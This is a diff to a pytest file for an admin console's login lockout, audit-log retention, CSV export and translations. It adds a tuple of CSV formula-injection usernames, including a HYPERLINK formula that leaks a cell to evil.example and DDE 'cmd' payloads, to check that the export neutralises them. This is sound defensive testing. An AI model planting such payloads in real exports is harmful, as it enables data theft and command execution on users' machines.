@@ -1,4 +1,5 @@
-"""Operators, the login lockout, the audit log and its CSV export, and the two languages."""
+"""Operators, the login lockout, the audit log and its CSV export, and the two languages
+(fast tier: no service runs)."""
 
 from __future__ import annotations
 
@@ -12,11 +13,10 @@ from pathlib import Path
 
 from babel.messages.mofile import read_mo
 from babel.messages.pofile import read_po
-from test_console_auth import csrf_token, first_operator, login
-from test_console_users import Console, app, console, unique  # noqa: F401 (fixtures)
+from console_helpers import Clock, Console, csrf_token, first_operator, login, unique
 
 OPERATOR_PASSWORD = "Operator-Passw0rd-1"
-TRANSLATIONS = Path(__file__).resolve().parent.parent / "admin_console" / "translations"
+TRANSLATIONS = Path(__file__).resolve().parents[3] / "admin_console" / "translations"
 
 
 def add_operator(console: Console, name: str) -> None:
@@ -119,7 +119,14 @@ def test_entries_past_the_retention_go_when_the_next_one_is_written(app, console
     name, day = unique("aged"), 86400
     with app.app_context():
         for action, age_days in (("test.expired", 31), ("test.kept", 29)):
-            store.add(db.get_db(), "admin", action, name, True, at=time.time() - age_days * day)
+            store.add(
+                db.get_db(),
+                operator="admin",
+                action=action,
+                target=name,
+                ok=True,
+                at=time.time() - age_days * day,
+            )
     assert "test.expired" in console.get(f"/audit/?q={name}")
 
     add_operator(console, unique("next"))  # any action writes an entry
@@ -128,18 +135,30 @@ def test_entries_past_the_retention_go_when_the_next_one_is_written(app, console
     assert "test.expired" not in page and "test.kept" in page
 
 
-def test_csv_cells_cannot_be_formulas(app, console):
-    from admin_console import db
-    from admin_console.audit import store
+# Each of OWASP's formula prefixes, as an anonymous visitor types them as a username.
+HOSTILE_USERNAMES = (
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+)
 
-    with app.app_context():
-        store.add(db.get_db(), "admin", "test.formula", '=HYPERLINK("x")', True, "+1")
-    rows = list(
-        csv.reader(
-            io.StringIO(console.client.get("/audit/export.csv?q=HYPERLINK").get_data(as_text=True))
-        )
-    )
-    assert rows[1][3] == '\'=HYPERLINK("x")' and rows[1][5] == "'+1"
+
+def test_no_exported_cell_is_a_formula_whatever_a_visitor_typed(app, console):
+    visitor = app.test_client()
+    for username in HOSTILE_USERNAMES:
+        assert login(visitor, username, "any-password").status_code == 401
+    export = console.client.get("/audit/export.csv?q=login")
+    rows = list(csv.reader(io.StringIO(export.get_data(as_text=True), newline="")))
+    exported = {row[3]: row for row in rows[1:] if row[2] == "login" and row[4] == "failed"}
+    assert set(exported) == {"'" + username for username in HOSTILE_USERNAMES}
+    for row in exported.values():
+        assert row[1] == row[3]  # the operator column holds the typed name too, neutralised
+    # What no spreadsheet evaluates is kept as it is.
+    assert ["time_utc", "operator", "action", "target", "result", "detail"] == rows[0]
+    assert "wrong password" in {row[5] for row in exported.values()}
 
 
 def test_language_from_the_browser_then_the_operators_choice(app):
@@ -151,20 +170,6 @@ def test_language_from_the_browser_then_the_operators_choice(app):
     client.post("/language", data={"csrf_token": token, "lang": "en", "next": "/login"})
     english = client.get("/login", headers={"Accept-Language": "fr"}).get_data(as_text=True)
     assert '<html lang="en">' in english and "Log in" in english
-
-
-def test_every_page_is_translated_in_french(app, console):
-    console.client.post("/language", data={"csrf_token": console.token, "lang": "fr"})
-    for path, french in (
-        ("/users/", "Utilisateurs"),
-        ("/domains/", "Domaines autorisés"),
-        ("/rooms/", "Salons"),
-        ("/media/", "Médias et antivirus"),
-        ("/audit/", "Exporter en CSV"),
-        ("/operators/", "Opérateurs"),
-        ("/health/", "Santé"),
-    ):
-        assert french in console.get(path), path
 
 
 def test_compiled_catalogue_matches_the_po_file():
@@ -206,7 +211,9 @@ def test_many_addresses_together_lock_the_username_everywhere(app, console):
     def wrong_passwords_from(address: str) -> None:  # as many as one address may try
         with app.app_context():
             for _ in range(lockout.MAX_FAILURES):
-                lockout.guarded(db.get_db(), name, address, lambda: None, time.time())
+                lockout.guarded(
+                    db.get_db(), username=name, client=address, verify=lambda: None, now=time.time()
+                )
 
     addresses = lockout.MAX_FAILURES_ANYWHERE // lockout.MAX_FAILURES
     for n in range(addresses - 1):
@@ -227,7 +234,6 @@ def test_one_ipv6_network_is_one_client():
 
 
 def test_the_lock_ends_after_a_quarter_of_an_hour_and_old_attempts_are_deleted(app, console):
-    from test_console_auth import Clock
 
     from admin_console import db
 
